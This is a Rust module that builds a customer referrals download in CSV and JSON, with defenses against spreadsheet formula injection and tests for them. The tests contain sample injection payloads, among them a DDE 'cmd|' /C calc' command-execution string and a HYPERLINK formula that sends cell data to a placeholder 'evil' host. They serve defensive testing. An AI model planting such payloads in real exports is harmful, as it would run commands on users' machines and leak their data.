//! The customer referrals download (CSV and JSON). Built here so that the
//! browser (before import) and the server (before and after) give the same
//! bytes for the same referrals.

use crate::export::Referral;
use crate::messages::Messages;

crate::catalogue! {
    /// A column of the CSV download, in order; its header is said in the
    /// reader's language (`referrals-<key>`), its key is the JSON field.
    pub enum Column = "referrals-";

    Id = "id";
    BusinessProfileId = "business_profile_id";
    CustomerName = "customer_name";
    ContactName = "contact_name";
    ContactEmail = "contact_email";
    ContactPhone = "contact_phone";
    Need = "need";
    Status = "status";
    ReceivedOn = "received_on";
    DealAmount = "deal_amount";
    DealCurrency = "deal_currency";
}

/// RFC 4180 CSV with a UTF-8 byte order mark (so spreadsheet programs read
/// accents right) and CRLF line ends. A cell that a spreadsheet could run
/// as a formula is prefixed with `'` (see [`defuse_formula`]); a cell with
/// a separator of any locale (`,`, `;`, tab) or a line break is quoted.
/// The header row is in `messages`' language.
pub fn referrals_csv(referrals: &[Referral], messages: &Messages) -> String {
    let mut out = String::from("\u{feff}");
    let headers: Vec<String> = Column::ALL.iter().map(|&c| messages.text(c)).collect();
    push_row(&mut out, headers.iter().map(String::as_str));
    for r in referrals {
        let amount = r.deal_value.as_ref().map(|d| d.amount.to_string());
        let cells = [
            r.id.as_str(),
            r.business_profile_id.as_deref().unwrap_or_default(),
            r.customer_name.as_str(),
            r.contact_name.as_deref().unwrap_or_default(),
            r.contact_email.as_deref().unwrap_or_default(),
            r.contact_phone.as_deref().unwrap_or_default(),
            r.need.as_str(),
            r.status.as_str(),
            r.received_on.as_str(),
            amount.as_deref().unwrap_or_default(),
            r.deal_value
                .as_ref()
                .map(|d| d.currency.as_str())
                .unwrap_or_default(),
        ];
        push_row(&mut out, cells.into_iter());
    }
    out
}

fn push_row<'a>(out: &mut String, cells: impl Iterator<Item = &'a str>) {
    for (n, cell) in cells.enumerate() {
        if n > 0 {
            out.push(',');
        }
        push_cell(out, cell);
    }
    out.push_str("\r\n");
}

fn push_cell(out: &mut String, cell: &str) {
    let text = defuse_formula(cell);
    // `;` and tab too: spreadsheets set to a locale whose list separator is
    // `;` split unquoted cells there, and the piece after it would start a
    // new cell (and a formula) of its own.
    if text.contains([',', ';', '\t', '"', '\r', '\n']) {
        out.push('"');
        out.push_str(&text.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(&text);
    }
}

/// The cell as a spreadsheet may show it but never run it (OWASP's CSV
/// injection advice): a cell that starts with `=`, `+`, `-`, `@`, a tab or
/// a carriage return gets a leading `'`, and so does one that does once
/// its byte order marks and whitespace are set aside and its full-width
/// forms folded (`＝1+1`, `\u{feff}=1+1`, ` @A1`). Every such cell, a
/// number or a phone number too: `+1-2-3` reads as a phone number to
/// people and as -4 to a spreadsheet. (The JSON download keeps every
/// value as it is.)
pub fn defuse_formula(cell: &str) -> std::borrow::Cow<'_, str> {
    let starts_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
        || cell
            .chars()
            .find(|c| *c != '\u{feff}' && !c.is_whitespace())
            .map(fold_width)
            .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@'));
    if starts_formula {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A full-width form (U+FF01 to U+FF5E) as its ASCII character.
fn fold_width(c: char) -> char {
    match u32::from(c) {
        code @ 0xFF01..=0xFF5E => char::from_u32(code - 0xFF01 + 0x21).unwrap_or(c),
        _ => c,
    }
}

/// The referrals as a JSON array, as the export holds them.
pub fn referrals_json(referrals: &[Referral]) -> String {
    // Serializing these plain structs cannot fail; an empty array is the
    // harmless answer if it ever did.
    serde_json::to_string_pretty(referrals).unwrap_or_else(|_| String::from("[]"))
}

#[cfg(all(test, feature = "locales"))]
mod tests {
    use super::*;
    use crate::{locales::messages, Lang};

    fn referrals_csv(referrals: &[Referral]) -> String {
        super::referrals_csv(referrals, messages(Lang::En))
    }
    use crate::export::ReferralStatus;

    fn referral(customer_name: &str, need: &str) -> Referral {
        Referral {
            id: "r1".into(),
            business_profile_id: None,
            customer_name: customer_name.into(),
            contact_name: None,
            contact_email: None,
            contact_phone: Some("+33 1 23".into()),
            need: need.into(),
            status: ReferralStatus::New,
            received_on: "2016-01-15".into(),
            deal_value: None,
        }
    }

    #[test]
    fn csv_quotes_and_defuses_formulas() {
        let csv = referrals_csv(&[referral("Dupont, \"SA\"", "=HYPERLINK(\"x\")")]);
        let lines: Vec<&str> = csv.split("\r\n").collect();
        assert!(lines[0].starts_with("\u{feff}Referral ID,Business profile ID,"));
        assert_eq!(
            lines[1],
            "r1,,\"Dupont, \"\"SA\"\"\",,,'+33 1 23,\"'=HYPERLINK(\"\"x\"\")\",new,2016-01-15,,"
        );
        assert_eq!(lines.len(), 3, "header, one row, and the final CRLF");
    }

    /// `(cell, what the spreadsheet gets)`, checked one by one.
    fn check_defused(cases: &[(&str, &str)]) {
        for (cell, expected) in cases {
            assert_eq!(defuse_formula(cell), *expected, "cell {cell:?}");
        }
    }

    #[test]
    fn every_formula_prefix_is_defused() {
        check_defused(&[
            // Formulas that start like a number still run: the old guard
            // let these two through.
            (
                "-1+HYPERLINK(\"https://evil/?\"&B2,\"open\")",
                "'-1+HYPERLINK(\"https://evil/?\"&B2,\"open\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("=1+1", "'=1+1"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("+A1", "'+A1"),
            ("-A1", "'-A1"),
            ("- 2+3", "'- 2+3"),
            ("+.5+A1", "'+.5+A1"),
            ("\t=1+1", "'\t=1+1"),
            ("\tplain", "'\tplain"),
            ("\r=1+1", "'\r=1+1"),
            // Spaces (or other whitespace) before a formula prefix.
            ("  =1+1", "'  =1+1"),
            (" +1+cmd|' /C calc'!A0", "' +1+cmd|' /C calc'!A0"),
            ("\n-1+A1", "'\n-1+A1"),
            ("\u{a0}@A1", "'\u{a0}@A1"),
            // Numbers and phone numbers too: a spreadsheet computes them.
            ("+1-2-3", "'+1-2-3"),
            (" +33 1 23 45 67 89", "' +33 1 23 45 67 89"),
            ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
            ("+1 (555) 010-0199", "'+1 (555) 010-0199"),
            ("-12.5", "'-12.5"),
            ("+3", "'+3"),
            ("-", "'-"),
            // After a byte order mark, or in full-width forms.
            ("\u{feff}=1+1", "'\u{feff}=1+1"),
            ("\u{feff} +A1", "'\u{feff} +A1"),
            ("＝1+1", "'＝1+1"),
            ("＋A1", "'＋A1"),
            ("－1+A1", "'－1+A1"),
            ("＠SUM(A1)", "'＠SUM(A1)"),
            ("\u{3000}＝1", "'\u{3000}＝1"),
            // Readable as they are.
            ("12.5", "12.5"),
            ("３３", "３３"),
            ("\u{feff}Dupont", "\u{feff}Dupont"),
            ("Dupont SA", "Dupont SA"),
            ("a=b", "a=b"),
            ("", ""),
        ]);
    }

    #[test]
    fn csv_cells_never_start_a_formula() -> Result<(), serde_json::Error> {
        let mut attack = referral(
            "+1+cmd|' /C calc'!A0",
            "-1+HYPERLINK(\"https://evil/?\"&B2,\"open\")",
        );
        attack.contact_name = Some(" =1+1".into());
        attack.contact_phone = Some("+33 1 23 45 67 89".into());
        attack.deal_value = Some(crate::export::DealValue {
            amount: "-12.5".parse()?,
            currency: "EUR".into(),
        });
        let csv = referrals_csv(&[attack]);
        let row = csv.split("\r\n").nth(1).unwrap_or_default();
        assert_eq!(
            row,
            "r1,,'+1+cmd|' /C calc'!A0,' =1+1,,'+33 1 23 45 67 89,\
             \"'-1+HYPERLINK(\"\"https://evil/?\"\"&B2,\"\"open\"\")\",new,2016-01-15,'-12.5,EUR"
        );
        Ok(())
    }

    #[test]
    fn csv_quotes_every_locales_separator() {
        let csv = referrals_csv(&[referral("Dupont;=1+1", "tab\there")]);
        let row = csv.split("\r\n").nth(1).unwrap_or_default();
        assert_eq!(
            row,
            "r1,,\"Dupont;=1+1\",,,'+33 1 23,\"tab\there\",new,2016-01-15,,"
        );
    }

    #[test]
    fn csv_of_no_referrals_is_the_header() {
        assert_eq!(referrals_csv(&[]).lines().count(), 1);
    }
}
